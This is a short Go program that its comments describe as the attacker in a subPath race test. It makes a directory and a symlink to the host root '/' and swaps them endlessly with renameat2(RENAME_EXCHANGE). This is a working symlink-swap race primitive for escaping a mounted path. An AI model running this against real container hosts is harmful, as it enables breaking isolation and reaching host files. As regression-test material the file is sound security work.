// Command swapper is the attacker of the subPath race test (issue 7): in
// the directory it is given it makes "sub" a directory and "link" a symlink
// to "/", then swaps the two names with renameat2(RENAME_EXCHANGE) until it
// is killed, so "sub" is a directory one instant and a link to the host's
// root the next.
package main

import (
	"fmt"
	"os"
	"path/filepath"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) != 2 {
		fmt.Fprintln(os.Stderr, "usage: swapper DIR")
		os.Exit(2)
	}
	sub, link := filepath.Join(os.Args[1], "sub"), filepath.Join(os.Args[1], "link")
	if err := os.MkdirAll(sub, 0o755); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	if err := os.Symlink("/", link); err != nil && !os.IsExist(err) {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	fmt.Println("swapping", sub, "and", link)
	for {
		if err := unix.Renameat2(unix.AT_FDCWD, sub, unix.AT_FDCWD, link, unix.RENAME_EXCHANGE); err != nil {
			fmt.Fprintln(os.Stderr, "renameat2:", err)
			os.Exit(1)
		}
	}
}
